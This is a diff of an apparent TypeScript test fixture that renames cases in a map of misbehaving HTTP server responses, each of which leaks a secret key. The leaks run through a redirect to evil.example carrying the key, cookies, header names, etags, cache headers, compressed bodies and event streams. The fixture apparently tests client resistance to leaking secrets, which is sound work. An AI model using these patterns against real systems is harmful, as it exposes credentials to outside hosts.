@@ -68,29 +68,26 @@ const plays: Readonly<Record<string, Play>> = {
   'redirects to another host with the key': http(
     `302 Found\r\nlocation: https://evil.example/?k=${encodeURIComponent(key)}`,
   ),
-  'redirects to itself with the key for ever': (socket, request) => {
+  'redirects to itself with the key without end': (socket, request) => {
     const [, path = '/'] = request.split(' ');
     http(`302 Found\r\nlocation: ${path}`)(socket, request);
   },
   'sets the key as a cookie': http(`${ok}\r\nset-cookie: k=${encodeURIComponent(key)}`, '{}'),
   'names a header by the key': http(`${ok}\r\nx-${Buffer.from(key).toString('hex')}: 1`, '{}'),
-  'puts the key into an etag that may be kept': http(
+  'puts the key into an etag of a cacheable answer': http(
     `${ok}\r\ncache-control: public, max-age=60\r\netag: "${spelled.base64url}"`,
     '{}',
   ),
   'puts the key into cache-status': http(`${ok}\r\ncache-status: ${spelled.percent}; hit`, '{}'),
   'puts the key into retry-after': http(`429 Too Many\r\nretry-after: ${spelled.percent}`, key),
-  'lets everybody keep a body with the key': http(
-    `${ok}\r\ncache-control: public, max-age=60`,
-    JSON.stringify({ key }),
-  ),
-  'sends gzip that nobody asked for': http(ok, gzipSync(JSON.stringify({ key })), 'content-encoding: gzip\r\n'),
-  'sends brotli that nobody asked for': http(
+  'allows caching of a body with the key': http(`${ok}\r\ncache-control: public, max-age=60`, JSON.stringify({ key })),
+  'sends gzip that was not requested': http(ok, gzipSync(JSON.stringify({ key })), 'content-encoding: gzip\r\n'),
+  'sends brotli that was not requested': http(
     ok,
     brotliCompressSync(JSON.stringify({ key })),
     'content-encoding: br\r\n',
   ),
-  'sends a coding that nobody knows': http(ok, `{"key":"${key}"}`, 'content-encoding: zzz\r\n'),
+  'sends an unknown coding': http(ok, `{"key":"${key}"}`, 'content-encoding: zzz\r\n'),
   'streams events with the key, cut anywhere': (socket) => {
     socket.write('HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\nconnection: close\r\n\r\n');
     for (const letter of `data: ${key}\n\ndata: ${spelled.base64}\n\n`) socket.write(letter);
